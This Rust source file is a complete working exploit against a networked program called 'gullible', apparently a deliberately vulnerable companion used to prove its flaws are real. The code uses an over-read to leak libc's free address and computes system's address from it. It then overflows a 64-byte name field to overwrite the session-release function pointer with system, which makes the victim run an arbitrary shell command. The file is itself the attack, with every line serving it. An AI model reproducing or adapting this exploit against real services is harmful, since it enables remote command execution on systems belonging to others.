//! Takes `gullible` over, as an attacker from the network would: reads past a name and learns where
//! `free` lies, computes where `system` must be then (both programs use the machine's libc), writes
//! past a name and puts it into the place of the function that releases the session, and says
//! goodbye.
//!
//! It proves that the flaws are real: the victim runs the command in a shell.
//!
//! usage: attacker PORT COMMAND

#![allow(unsafe_code, clippy::print_stdout)]

use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, TcpStream};
use std::time::Duration;

/// Where the function's address lies behind the name.
const NAME: usize = 64;

fn main() -> io::Result<()> {
    let mut arguments = std::env::args().skip(1);
    let port = arguments.next().and_then(|p| p.parse::<u16>().ok());
    let command = arguments.next().unwrap_or_default();
    let Some(port) = port.filter(|_| !command.is_empty() && command.len() < NAME) else {
        return Err(io::Error::other("usage: attacker PORT COMMAND (shorter than 64 bytes)"));
    };
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;

    let mut leaked = [0; NAME + 8];
    stream.write_all(format!("ECHO {}\n", leaked.len()).as_bytes())?;
    stream.read_exact(&mut leaked)?;
    let pointer = leaked.last_chunk().copied().ok_or(io::ErrorKind::InvalidData)?;
    let free = usize::from_le_bytes(pointer);
    let (our_free, our_system) =
        (libc::free as *const () as usize, libc::system as *const () as usize);
    let system = free.wrapping_add(our_system).wrapping_sub(our_free);
    println!("free is at {free:#x} there, so system is at {system:#x}");

    let mut name = command.into_bytes();
    name.resize(NAME, 0);
    name.extend(system.to_le_bytes());
    stream.write_all(format!("NAME {}\n", name.len()).as_bytes())?;
    stream.write_all(&name)?;
    stream.write_all(b"BYE\n")?;
    // The victim closes the connection when the shell is done, or when it is dead.
    match stream.read(&mut [0; 8]) {
        Ok(_) => Ok(()),
        Err(e) if e.kind() == io::ErrorKind::ConnectionReset => Ok(()),
        Err(e) => Err(e),
    }
}
